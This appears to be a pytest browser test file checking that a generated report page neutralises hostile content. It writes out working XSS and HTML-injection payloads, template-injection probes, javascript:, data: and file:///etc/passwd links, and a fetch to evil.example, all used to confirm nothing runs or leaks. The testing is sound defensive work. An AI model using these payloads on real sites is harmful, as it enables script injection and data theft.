"""Pages that try to take over the report: nothing of theirs runs, loads, or turns the words around it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from tests.browser.support import Opened, report_page

Open = Callable[..., Opened]
RUN = "window.owned=1"
ATTACKS = [
    f"</script><script>{RUN}</script>",
    f"</style></title></textarea><script>{RUN}</script>",
    f"<!-- --><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}//</script>",
    f'"><svg onload={RUN}>',
    f"'\" autofocus onfocus={RUN} x='",
    "{{ 7*7 }} {% for x in y %} ${7*7} %{7*7}",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>Save</button></form>",
    "line one\u2028line two\u2029\u0085end\x00\x1b[31m",
    "\u202eright to left\u202c \u2066isolated \u2067 never closed \u2069\u2069\u2069 after",
    "<style>*{display:none}</style>",
    "]]></content><entry>&amp;&lt;",
]


@pytest.mark.parametrize("first", range(0, len(ATTACKS), 3))
def test_words_of_a_page_stay_words(tmp_path: Path, open_page: Open, first: int) -> None:
    title, publisher, attack = (ATTACKS[(first + more) % len(ATTACKS)] for more in range(3))
    words = f"Works for everyone: {attack}".replace("\n", " ")
    path = report_page(tmp_path, title=title, publisher=publisher, text=words)
    opened = open_page(path)
    opened.reads('[data-flag="b2"]', "Works for everyone")
    for script in (True, False):
        shown = opened if script else open_page(path, java_script_enabled=False)
        assert [url for url in shown.requests if not url.startswith("data:")] == [path.as_uri()]
        assert shown.dialogs == []
        assert shown.complaints == []
        assert shown.page.locator("main").is_visible()
        assert not shown.page.locator("main iframe, main form, main img, main script, main style, main base").count()
        text = shown.page.locator("body").inner_text()
        assert not set("\u202e\u202c\u2066\u2067\u2069\u2028\u2029\x00\x1b") & set(text)
        assert "7*7" not in title + publisher + words or "49" not in text
    assert opened.page.evaluate("window.owned") is None


@pytest.mark.parametrize(
    "url",
    ["javascript:window.owned=1", "data:text/html,<script>1</script>", "file:///etc/passwd", "https://a@evil.example/"],
)
def test_addresses_that_are_none_become_no_link(tmp_path: Path, open_page: Open, url: str) -> None:
    opened = open_page(report_page(tmp_path, url=url))
    hrefs = opened.page.eval_on_selector_all("a[href]", "links => links.map(link => link.getAttribute('href'))")
    assert all(href.startswith(("#", "https://")) and "evil" not in href for href in hrefs)
    assert opened.page.locator('[data-flag="b2"] a').count() == 0


def test_the_policy_stops_a_script_that_got_in(tmp_path: Path, open_page: Open) -> None:
    path = report_page(tmp_path)
    text = path.read_text("utf-8").replace("<main", "<script>window.owned=1</script><main", 1)
    path.write_text(text, "utf-8")
    opened = open_page(path)
    assert opened.page.evaluate("window.owned") is None
    assert any("Content Security Policy" in complaint for complaint in opened.complaints)


def test_the_policy_lets_nothing_out(tmp_path: Path, open_page: Open) -> None:
    opened = open_page(report_page(tmp_path))
    told = opened.page.evaluate("fetch('https://evil.example/').then(() => 'out', () => 'stopped')")
    assert told == "stopped"
